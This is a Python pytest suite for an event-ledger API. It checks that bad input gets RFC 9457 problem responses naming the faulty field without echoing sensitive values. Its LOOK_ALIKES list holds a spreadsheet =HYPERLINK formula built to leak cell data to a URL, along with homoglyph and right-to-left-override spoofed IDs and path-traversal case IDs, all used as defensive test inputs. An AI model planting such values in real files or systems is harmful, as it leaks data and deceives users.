"""Bad input gets a clear RFC 9457 answer, names the field at fault, and changes nothing."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from starlette.testclient import TestClient

from tests.conftest import event, note, opened

URL = "/v1/cases/case-1/events"


def post_raw(
    client: TestClient, body: bytes | str, content_type: str = "application/json"
) -> httpx.Response:
    data = body.encode() if isinstance(body, str) else body
    return client.post(URL, content=data, headers={"Content-Type": content_type})


def note_with(raw_value: str) -> str:
    base = json.dumps(opened())
    return base[:-1] + ', "extra": ' + raw_value + "}"


def assert_problem(
    response: httpx.Response, status: int, kind: str, pointer: str | None = None
) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert problem["type"] == f"/problems/{kind}"
    assert problem["status"] == status
    assert problem["title"] and problem["detail"]
    if pointer is not None:
        assert problem["pointer"] == pointer
    return problem


def assert_nothing_recorded(client: TestClient) -> None:
    assert client.get(URL).status_code == 404


@pytest.mark.parametrize(
    "body",
    ["{", "", "[1,", '{"type": }', "\ufeff{}", "nul"],
)
def test_unparseable_json_is_400(client: TestClient, body: str) -> None:
    assert_problem(post_raw(client, body), 400, "malformed-json")
    assert_nothing_recorded(client)


def test_invalid_utf8_is_400(client: TestClient) -> None:
    assert_problem(post_raw(client, b'{"type": "\xff"}'), 400, "malformed-json")


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity", "1e400", "-1e400"])
def test_non_finite_numbers_are_400(client: TestClient, literal: str) -> None:
    body = json.dumps({"events": [opened(), note()]}).replace('"called the seller"', literal)

    assert_problem(post_raw(client, body), 400, "malformed-json")
    assert_nothing_recorded(client)


def test_payload_nan_is_refused_never_stored_as_null(client: TestClient) -> None:
    body = json.dumps(opened())[:-2] + ', "v": NaN}}'

    assert_problem(post_raw(client, body), 400, "malformed-json")
    assert_nothing_recorded(client)


@pytest.mark.parametrize(
    "body",
    [
        '{"type": "case.opened", "type": "note.added"}',
        '{"events": [{"type": "x", "payload": {"a": 1, "a": 2}}]}',
    ],
)
def test_duplicate_keys_anywhere_are_400_naming_the_key(client: TestClient, body: str) -> None:
    problem = assert_problem(post_raw(client, body), 400, "malformed-json")
    assert "'type'" in problem["detail"] or "'a'" in problem["detail"]


@pytest.mark.parametrize(
    ("value", "pointer"),
    [
        ("18446744073709551616", "/payload/n"),
        ("9007199254740993", "/payload/n"),
        ("-9007199254740993", "/payload/n"),
        ("1.5", "/payload/n"),
        ("1.0", "/payload/n"),
        ("1e2", "/payload/n"),
        ("[1, 2.5]", "/payload/n/1"),
        ('{"deep": {"x": 0.1}}', "/payload/n/deep/x"),
    ],
)
def test_floats_and_unsafe_integers_are_422_with_the_pointer(
    client: TestClient, value: str, pointer: str
) -> None:
    body = json.dumps(opened())[:-2] + f', "n": {value}}}}}'

    assert_problem(post_raw(client, body), 422, "invalid-event", pointer)
    assert_nothing_recorded(client)


def test_largest_safe_integers_are_accepted_and_round_trip(client: TestClient) -> None:
    mandate = event(
        "mandate.signed",
        {
            "party_id": "p-1",
            "kind": "sell",
            "exclusive": False,
            "expires_on": None,
            "net_price_minor": 9007199254740991,
            "tail_period_months": -9007199254740991,
        },
    )

    assert client.post(URL, json={"events": [opened(), mandate]}).status_code == 201
    payload = client.get(URL).json()["events"][1]["payload"]
    assert payload["net_price_minor"] == 9007199254740991
    assert payload["tail_period_months"] == -9007199254740991


def test_lone_surrogate_is_422(client: TestClient) -> None:
    body = json.dumps(opened())[:-2] + ', "s": "\\ud800"}}'

    assert_problem(post_raw(client, body), 422, "invalid-event", "/payload/s")


@pytest.mark.parametrize(
    ("body", "pointer"),
    [
        (event("no.such.type"), "/type"),
        ({"occurred_at": "2024-03-01T10:00:00Z", "actor": {}, "payload": {}}, "/type"),
        (event("case.opened", {"kind": "sale"}), "/payload/property_ref"),
        (event("case.opened", {"kind": "castle", "property_ref": "p"}), "/payload/kind"),
        (event("case.opened", {"kind": "sale", "property_ref": 7}), "/payload/property_ref"),
        (
            event(
                "case.opened",
                {"kind": "sale", "property_ref": "p"},
                occurred_at="2024-03-01T10:00:00",
            ),
            "/occurred_at",
        ),
        (
            event(
                "case.opened",
                {"kind": "sale", "property_ref": "p"},
                occurred_at="2024-02-30T10:00:00Z",
            ),
            "/occurred_at",
        ),
        (
            {**opened(), "actor": {"id": "a", "role": "wizard", "agency": "x"}},
            "/actor/role",
        ),
        ({**opened(), "actor": {"id": "a", "role": "client"}}, "/actor/agency"),
        ({**opened(), "seq": 5}, "/seq"),
        ({**opened(), "recorded_at": "2024-01-01T00:00:00Z"}, "/recorded_at"),
        (
            {**opened(), "evidence": [{"name": "x.pdf", "sha256": "abc", "media_type": "a/b"}]},
            "/evidence/0/sha256",
        ),
        ({**opened(), "payload": []}, "/payload"),
        ({"events": [], "expected_seq": 0}, "/events"),
        ({"events": [opened()], "expected_seq": -1}, "/expected_seq"),
        ({"events": [opened()], "expected_seq": "0"}, "/expected_seq"),
        ({"events": [opened()], "extra": 1}, "/extra"),
        ([opened()], ""),
    ],
)
def test_invalid_events_are_422_with_the_field_at_fault(
    client: TestClient, body: object, pointer: str
) -> None:
    assert_problem(client.post(URL, json=body), 422, "invalid-event", pointer)
    assert_nothing_recorded(client)


def test_body_over_the_limit_is_413_from_content_length(client: TestClient) -> None:
    big = b"{" + b" " * (2 * 1024 * 1024) + b"}"

    assert_problem(post_raw(client, big), 413, "body-too-large")


def test_body_over_the_limit_is_413_without_content_length(client: TestClient) -> None:
    def chunks():  # type: ignore[no-untyped-def]
        for _ in range(40):
            yield b" " * 65536

    response = client.post(URL, content=chunks(), headers={"Content-Type": "application/json"})

    assert_problem(response, 413, "body-too-large")


@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""]
)
def test_other_content_types_are_415(client: TestClient, content_type: str) -> None:
    response = post_raw(client, json.dumps(opened()), content_type)

    assert_problem(response, 415, "unsupported-media-type", "/headers/Content-Type")
    assert_nothing_recorded(client)


def test_json_with_utf8_charset_is_accepted(client: TestClient) -> None:
    response = post_raw(client, json.dumps(opened()), "application/json; charset=utf-8")

    assert response.status_code == 201


def test_unknown_route_is_404_problem(client: TestClient) -> None:
    assert_problem(client.get("/v1/nowhere"), 404, "not-found")


def test_wrong_method_is_405_problem_with_allow(client: TestClient) -> None:
    response = client.delete(URL)

    assert_problem(response, 405, "method-not-allowed")
    assert "GET" in response.headers["allow"] and "POST" in response.headers["allow"]


@pytest.mark.parametrize("case_id", ["a" * 65, "bad id", "semi;colon", "%2e%2e"])
def test_invalid_case_ids_are_refused(client: TestClient, case_id: str) -> None:
    response = client.post(f"/v1/cases/{case_id}/events", json=opened())

    assert response.status_code in (400, 404)
    assert response.headers["content-type"] == "application/problem+json"


@pytest.mark.parametrize(
    "query", ["after_seq=-1", "after_seq=abc", "limit=0", "limit=100000", "after_seq=1e3"]
)
def test_invalid_query_parameters_are_400_naming_them(client: TestClient, query: str) -> None:
    client.post(URL, json=opened())

    response = client.get(f"{URL}?{query}")

    problem = assert_problem(response, 400, "invalid-parameter")
    assert problem["pointer"].startswith("/query/")


SECRET_NAME, SECRET_PHONE = "Sun Xiaomei", "13522223333"


def party(**fields: object) -> dict[str, object]:
    payload = {"party_id": "p-1", "party_role": "seller", "name": "N", "phone": "1"}
    return {**payload, "id_number": "2", **fields}


@pytest.mark.parametrize(
    ("body", "pointer"),
    [
        (event("party.registered", party(name=[SECRET_NAME])), "/events/1/payload/name"),
        (event("party.registered", party(name={"full": SECRET_NAME})), "/events/1/payload/name"),
        (event("party.registered", party(party_role=SECRET_NAME)), "/events/1/payload/party_role"),
        (event("party.registered", party(phone=SECRET_PHONE * 200)), "/events/1/payload/phone"),
        (
            event("party.registered", party(party_id="p-" + SECRET_PHONE * 20)),
            "/events/1/payload/party_id",
        ),
        (
            event(
                "agent.registration_checked",
                {
                    "agent_id": "a-1",
                    "licence": "broker",
                    "status": "valid",
                    "valid_until": SECRET_PHONE,
                    "source": "registry",
                },
            ),
            "/events/1/payload/valid_until",
        ),
        (event("note.added", {"text": "x"}, occurred_at=SECRET_NAME), "/events/1/occurred_at"),
        (
            event(
                "note.added", {"text": "x"}, actor={"id": "a", "role": SECRET_NAME, "agency": "a"}
            ),
            "/events/1/actor/role",
        ),
    ],
)
def test_a_problem_names_the_constraint_never_the_value_sent(
    client: TestClient, body: dict[str, object], pointer: str
) -> None:
    response = client.post(URL, json={"events": [opened(), body]})

    problem = assert_problem(response, 422, "invalid-event", pointer)
    assert SECRET_NAME not in response.text and SECRET_PHONE not in response.text
    assert "must" in problem["detail"] or "is not" in problem["detail"]
    assert_nothing_recorded(client)


# Each holds "zq", which no part of a problem document does, to show it is never echoed.
LOOK_ALIKES = [
    "zq-agency\u200b",  # a zero-width space after a real-looking id
    "zq-\u0430gency",  # a Cyrillic а for the Latin a
    "zq-\u202eycnega",  # a right-to-left override: it displays as another id
    '=HYPERLINK("http://127.0.0.1:1/?leak="&A2,"zq")',
    "zq agency",
    "zq-agency\n",  # JSON Schema's "$" is the end of the text, not of a line
    "-zq",
    "zq" * 100 + "z",  # one character too many
]


def as_actor(field: str, value: str) -> dict[str, object]:
    actor = {"id": "agent-a1", "role": "agent_of_record", "agency": "agency-a", field: value}
    return event("note.added", {"text": "x"}, actor=actor)


@pytest.mark.parametrize("value", LOOK_ALIKES)
@pytest.mark.parametrize(
    ("body", "pointer"),
    [
        (lambda value: as_actor("id", value), "/events/1/actor/id"),
        (lambda value: as_actor("agency", value), "/events/1/actor/agency"),
        (
            lambda value: event("party.registered", party(party_id=value)),
            "/events/1/payload/party_id",
        ),
        (
            lambda value: event(
                "contract.sale_signed",
                {
                    "buyer_party_ids": ["p-2", value],
                    "seller_party_ids": ["p-1"],
                    "price_minor": 1,
                    "currency": "CNY",
                },
            ),
            "/events/1/payload/buyer_party_ids/1",
        ),
        (
            lambda value: event(
                "agent.assigned",
                {
                    "agent_id": "a-1",
                    "case_role": "agent_of_record",
                    "licence_no": None,
                    "supervisor_id": value,
                },
            ),
            "/events/1/payload/supervisor_id",
        ),
    ],
)
def test_ids_are_ascii_identifiers_and_the_problem_states_the_rule(
    client: TestClient, value: str, body: Callable[[str], dict[str, Any]], pointer: str
) -> None:
    response = client.post(URL, json={"events": [opened(), body(value)]})

    problem = assert_problem(response, 422, "invalid-event", pointer)
    assert "A–Z a–z 0–9 . _ -, starting with a letter or digit" in problem["detail"]
    assert "zq" not in response.text
    assert_nothing_recorded(client)


@pytest.mark.parametrize("value", ["a", "agent_7.b-c", "0" * 200, "A.B"])
def test_ids_of_the_rule_are_accepted_everywhere(client: TestClient, value: str) -> None:
    actor = {"id": value, "role": "agent_of_record", "agency": value}
    events = [
        event("case.opened", {"kind": "sale", "property_ref": value}, actor=actor),
        event("party.registered", party(party_id=value), actor=actor),
    ]

    assert client.post(URL, json={"events": events}).status_code == 201


def test_the_catalogue_and_openapi_publish_the_id_rule(client: TestClient) -> None:
    catalogue = client.get("/v1/catalogue").json()
    openapi = client.get("/openapi.json").json()
    actors = [
        catalogue["envelope_schema"]["properties"]["actor"],
        openapi["components"]["schemas"]["Event"]["properties"]["actor"],
    ]
    party_id = catalogue["types"]["party.registered"]["payload_schema"]["properties"]["party_id"]

    for schema in [*(a["properties"][f] for a in actors for f in ("id", "agency")), party_id]:
        assert schema["pattern"] == "^[A-Za-z0-9][A-Za-z0-9._-]{0,199}$"
        assert "starting with a letter or digit" in schema["description"]


@pytest.mark.parametrize(("length", "status"), [(200, 404), (201, 400)])
def test_every_party_id_the_ledger_accepts_can_be_named_for_erasure(
    client: TestClient, length: int, status: int
) -> None:
    response = client.post(f"/v1/parties/{'p' * length}/erasure", json={"reason": "request 7"})

    assert response.status_code == status, response.text


def test_numbers_out_of_range_are_described_not_repeated(client: TestClient) -> None:
    too_long = post_raw(client, note_with("9007199254740993135222233"))
    overflowing = post_raw(client, note_with(SECRET_PHONE + "e999"))

    problem = assert_problem(too_long, 422, "invalid-event", "/extra")
    assert "9007199254740993135222233" not in problem["detail"]
    assert_problem(overflowing, 400, "malformed-json")
    assert SECRET_PHONE not in overflowing.text


LATER = (datetime.now(UTC) + timedelta(hours=1)).isoformat(timespec="seconds")


@pytest.mark.parametrize(
    "when",
    [
        "9999-12-31T23:59:59-05:00",
        LATER,
        "1899-12-31T23:59:59+08:00",
        "0001-01-01T00:00:00Z",
    ],
)
def test_occurred_at_outside_what_the_ledger_can_vouch_for_is_refused(
    client: TestClient, when: str
) -> None:
    late = event("note.added", {"text": "x"}, occurred_at=when)

    response = client.post(URL, json={"events": [opened(), late]})

    problem = assert_problem(response, 422, "invalid-event", "/events/1/occurred_at")
    assert when not in problem["detail"]
    assert_nothing_recorded(client)


def test_occurred_at_may_run_a_few_minutes_ahead_of_the_ledger(client: TestClient) -> None:
    soon = (datetime.now(UTC) + timedelta(minutes=5)).isoformat(timespec="seconds")

    response = client.post(URL, json=event("case.opened", opened()["payload"], occurred_at=soon))

    assert response.status_code == 201, response.text


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=20,
)


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.one_of(
        st.binary(max_size=200),
        json_values.map(lambda value: json.dumps(value).encode()),
        st.dictionaries(
            st.sampled_from(["type", "occurred_at", "actor", "payload", "evidence", "events"]),
            json_values,
        ).map(lambda value: json.dumps(value).encode()),
    )
)
def test_no_input_ever_gets_a_500(client: TestClient, body: bytes) -> None:
    response = post_raw(client, body)

    assert response.status_code < 500, response.text
    assert response.status_code != 201 or client.get(URL).status_code == 200
